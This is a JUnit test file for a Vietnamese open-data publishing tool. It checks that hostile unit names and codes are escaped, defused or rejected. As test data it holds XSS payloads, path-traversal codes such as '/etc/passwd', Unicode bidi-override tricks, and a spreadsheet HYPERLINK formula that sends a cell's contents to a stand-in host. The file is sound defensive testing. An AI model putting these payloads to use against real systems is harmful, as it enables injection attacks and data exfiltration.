package vn.chiso766.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.chiso766.cli.Bench.assertProblem;

import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile text: a name or code never becomes markup, a spreadsheet formula or a path. Names and
 * codes are data, published exactly (open data JSON) or defused (CSV cells a spreadsheet would
 * run); characters that change how text reads are refused.
 */
class HostileTextTest {
    @TempDir
    Path tmp;
    Bench bench;

    @BeforeEach
    void setUp() {
        bench = new Bench(tmp);
    }

    /** A commune with this code and name, with complete September scores. */
    private Published publishUnit(String code, String name) {
        String quotedCode = quote(code);
        bench.data().units(Bench.UNITS + quotedCode + "," + quote(name) + ",COMMUNE,H99\n")
                .period("2026-09", Bench.SEPTEMBER + quotedCode + ",11.79,12,6,5,9,15\n");
        Published site = bench.published();
        site.assertPathsSafe();
        return site;
    }

    private static String quote(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }

    private static String json(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    @Test
    void scriptInName_isPublishedEscaped() {
        String name = "<script>alert('xã')</script>";
        Published site = publishUnit("H99.201", name);
        assertEquals(name, site.openData("2026-09", "H99.201").get("unit_name"));
        assertTrue(site.text("2026-09/ket-qua.json").contains("\"unit_name\" : \"" + name + "\""));
        site.assertShownAsText(name);
    }

    @Test
    void attributeBreakoutInName_isPublishedEscaped() {
        String name = "\"><img src=x onerror=alert(1)>";
        Published site = publishUnit("H99.202", name);
        assertEquals(name, site.openData("2026-09", "H99.202").get("unit_name"));
        assertTrue(site.text("2026-09/ket-qua.json").contains(json(name)));
        site.assertShownAsText(name);
    }

    @Test
    void markupInCode_isPublishedEscaped() {
        String code = "<b>H99.203</b>";
        Published site = publishUnit(code, "UBND xã Chư Sê");
        assertEquals("UBND xã Chư Sê", site.openData("2026-09", code).get("unit_name"));
        site.assertEscapedInPages(code); // PDFs show names, not codes
    }

    @Test
    void parentDirectoryCode_isPublishedWithNothingOutsideTheOutput() {
        String code = "../../../../tmp/evil";
        Published site = publishUnit(code, "UBND xã Ia Pa");
        assertEquals("UBND xã Ia Pa", site.openData("2026-09", code).get("unit_name"));
    }

    @Test
    void slashAndBackslashCodes_arePublishedAsDistinctUnitsWithSafePaths() {
        bench.data().units(Bench.UNITS + "H99/301,UBND xã A,COMMUNE,H99\nH99\\301,UBND xã B,COMMUNE,H99\n"
                        + "/etc/passwd,UBND xã C,COMMUNE,H99\n")
                .period("2026-09", Bench.SEPTEMBER + "H99/301,11,12,6,5,9,15\nH99\\301,11,13,6,5,9,15\n"
                        + "/etc/passwd,11,14,6,5,9,15\n");
        Published site = bench.published();
        site.assertPathsSafe();
        assertEquals("UBND xã A", site.openData("2026-09", "H99/301").get("unit_name"));
        assertEquals("UBND xã B", site.openData("2026-09", "H99\\301").get("unit_name"));
        assertEquals("UBND xã C", site.openData("2026-09", "/etc/passwd").get("unit_name"));
    }

    @Test
    void hyperlinkFormulaInName_isDefusedInCsvAndExactInJson() {
        String name = "=HYPERLINK(\"http://lua-dao.example/?d=\"&A1,\"Bấm vào đây\")";
        Published site = publishUnit("H99.204", name);
        assertEquals("'" + name, site.openData("2026-09", "H99.204").get("unit_name"));
        assertTrue(site.text("2026-09/ket-qua.json").contains(json(name)));
        site.assertShownAsText(name);
    }

    @Test
    void plusMinusAndAtNames_areDefusedInCsv() {
        bench.data().units(Bench.UNITS + "H99.205,+84 UBND xã,COMMUNE,H99\nH99.206,-2+3 xã,COMMUNE,H99\n"
                        + "H99.207,@SUM(1+1),COMMUNE,H99\n")
                .period("2026-09", Bench.SEPTEMBER + "H99.205,11,12,6,5,9,15\nH99.206,11,12,6,5,9,15\n"
                        + "H99.207,11,12,6,5,9,15\n");
        Published site = bench.published();
        assertEquals("'+84 UBND xã", site.openData("2026-09", "H99.205").get("unit_name"));
        assertEquals("'-2+3 xã", site.openData("2026-09", "H99.206").get("unit_name"));
        assertEquals("'@SUM(1+1)", site.openData("2026-09", "H99.207").get("unit_name"));
    }

    @Test
    void formulaInCode_isDefusedInCsv() {
        Published site = publishUnit("=1+2", "UBND xã Đak Đoa");
        assertEquals("UBND xã Đak Đoa", site.openData("2026-09", "'=1+2").get("unit_name"));
        assertTrue(site.text("2026-09/ket-qua.json").contains("\"unit_code\" : \"=1+2\""));
    }

    @Test
    void rightToLeftOverrideInName_isRejectedAtItsCell() {
        bench.data().units(Bench.UNITS.replace("Sở Tài chính", "Sở Tài chính\u202Efdp.exe"));
        assertProblem(bench.rejected(), "units.csv, dòng 4, cột 2 (name)", "U+202E", "xóa");
    }

    @Test
    void rightToLeftIsolateInCode_isRejectedAtItsCell() {
        bench.data().units(Bench.UNITS.replace("H99.102,", "H99.102\u2067,"));
        assertProblem(bench.rejected(), "units.csv, dòng 6, cột 1 (code)", "U+2067");
    }

    @Test
    void zeroWidthSpaceInCode_isRejectedSoTwoCodesNeverLookAlike() {
        bench.data().units(Bench.UNITS + "H99.01\u200B,Sở Tư pháp,AGENCY,H99\n");
        assertProblem(bench.rejected(), "units.csv, dòng 7, cột 1 (code)", "U+200B", "ký tự ẩn");
    }

    @Test
    void tenThousandCharacterName_isRejectedWithTheLimit() {
        bench.data().units(Bench.UNITS.replace("Sở Tài chính", "Sở Tài chính ".repeat(770)));
        assertProblem(bench.rejected(), "units.csv, dòng 4, cột 2 (name)", "dài 10009 ký tự", "giới hạn 200 ký tự");
    }

    @Test
    void overlongCode_isRejectedWithTheLimit() {
        String code = "H99." + "9".repeat(60);
        bench.data().units(Bench.UNITS + code + ",UBND xã Dài,COMMUNE,H99\n");
        assertProblem(bench.rejected(), "units.csv, dòng 7, cột 1 (code)", "dài 64 ký tự", "giới hạn 50 ký tự");
    }

    @Test
    void nameOfTwoHundredCharacters_isPublishedWhole() {
        String name = "Ban Quản lý " + "x".repeat(188);
        Published site = publishUnit("H99.208", name);
        assertEquals(200, name.length());
        assertEquals(name, site.openData("2026-09", "H99.208").get("unit_name"));
    }
}
